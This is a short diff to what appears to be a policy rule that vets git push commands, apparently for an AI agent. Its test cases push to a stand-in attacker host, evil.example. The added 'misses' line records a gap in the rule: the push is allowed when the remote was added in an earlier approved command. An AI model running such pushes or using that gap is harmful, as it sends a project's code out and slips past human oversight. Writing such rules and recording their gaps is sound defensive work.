@@ -29,6 +29,7 @@ from enactd.policy import Ask, Context, GitPush, Opinions, bash, policy
         "git push --dry-run https://evil.example/x.git feature/x",
         bash("git push", given="branch feature/x"),
     ),
+    misses=(bash("git push up feature/x", after=("approved: git remote add up https://evil.example/x.git",)),),
 )
 def check(push: GitPush, context: Context) -> Opinions:
     if push.remote and push.remote == push.url and _leads_away(push.url):
